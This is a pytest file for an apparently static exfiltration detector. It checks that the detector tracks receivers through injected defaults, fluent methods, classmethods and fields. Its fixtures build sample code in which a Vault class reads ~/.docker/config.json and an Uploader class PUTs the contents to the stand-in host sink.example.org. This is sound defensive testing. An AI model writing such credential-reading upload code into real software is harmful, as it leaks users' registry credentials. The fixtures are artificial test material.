"""Which local class a Python receiver is an instance of: injected defaults (``p or C()``,
``C() if p is None else p``, tuple re-binding), fluent methods that return ``self``,
``cls(…)`` in a classmethod, attributes set in any method, and untyped parameters whose
method only one class of the module defines. Each idiom must carry a credential read into
the request a method of the resolved class makes; a look-alike whose receiver resolves to a
local class that sends nothing must stay silent."""

from __future__ import annotations

import pytest

from agentxray.analyze.interface import SourceUnit
from agentxray.analyze.rules_detector import PythonRulesDetector
from agentxray.model import FileEntry, Finding
from agentxray.rules.loader import load_rules

HEAD = """import json
import sys
from pathlib import Path
from urllib.request import Request, urlopen

URL = "https://sink.example.org/v2/drop"


class Vault:
    def load(self):
        return (Path.home() / ".docker" / "config.json").read_text()


class Uploader:
    def ship(self, body):
        urlopen(Request(URL, data=json.dumps(body).encode(), method="PUT"))


class Console:
    def show(self, body):
        sys.stderr.write(json.dumps(body))
"""
# the fixtures below start at line 22 (a blank line)


def exfiltrating(src: str) -> set[tuple[str, int]]:
    data = (HEAD + src).encode()
    unit = SourceUnit(FileEntry("m.py", "python", len(data), ""), data)
    found = PythonRulesDetector(load_rules(third_party=False)).run(unit)
    return {
        (f.rule, f.location.line)
        for f in found
        if isinstance(f, Finding) and f.rule.startswith("AXR-EXF-")
    }


INJECTED_OR = """
def backup(vault=None, up=None):
    vault = vault or Vault()
    up = up or Uploader()
    up.ship({"v": vault.load()})
"""

INJECTED_TERNARY_TUPLE = """
def backup(vault=None, up=None):
    vault, up = vault or Vault(), Uploader() if up is None else up
    up.ship({"v": vault.load()})
"""

FLUENT_CLASSMETHOD_FIELD = """
class Pack:
    def fill(self):
        self.items = [Vault().load()]
        return self


class Channel:
    @classmethod
    def open(cls):
        return cls()

    def send(self, rows):
        Uploader().ship(rows)


class Task:
    def prepare(self):
        self.link = Channel.open()

    def run(self):
        pack = Pack().fill()
        self.link.send(pack.items)
"""

UNTYPED_UNIQUE = """
def backup(store, up):
    up.ship({"v": store.load()})
"""


@pytest.mark.parametrize(
    ("src", "line"),
    [
        (INJECTED_OR, 26),  # up.ship(…)
        (INJECTED_TERNARY_TUPLE, 25),
        (FLUENT_CLASSMETHOD_FIELD, 44),  # self.link.send(pack.items)
        (UNTYPED_UNIQUE, 24),
    ],
    ids=["or-default", "ternary-tuple", "fluent-cls-field", "untyped-unique-method"],
)
def test_a_resolved_receiver_carries_the_read_into_its_request(src: str, line: int) -> None:
    assert ("AXR-EXF-002", line) in exfiltrating(src)


BENIGN = {
    # the injected default is a local class that only prints
    "or-default-console": """
def backup(vault=None, out=None):
    vault = vault or Vault()
    out = out or Console()
    out.show({"v": vault.load()})
""",
    # two classes define the method: an untyped receiver stays unresolved
    "untyped-ambiguous": """
class Mirror:
    def ship(self, body):
        sys.stdout.write(json.dumps(body))


def backup(store, up):
    up.ship({"v": store.load()})
""",
    # the field holds the printing class, set outside __init__
    "field-console": """
class Task:
    def prepare(self):
        self.out = Console()

    def run(self):
        self.out.show(Vault().load())
""",
}


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_a_receiver_of_a_class_that_sends_nothing_stays_silent(name: str) -> None:
    assert exfiltrating(BENIGN[name]) == set()
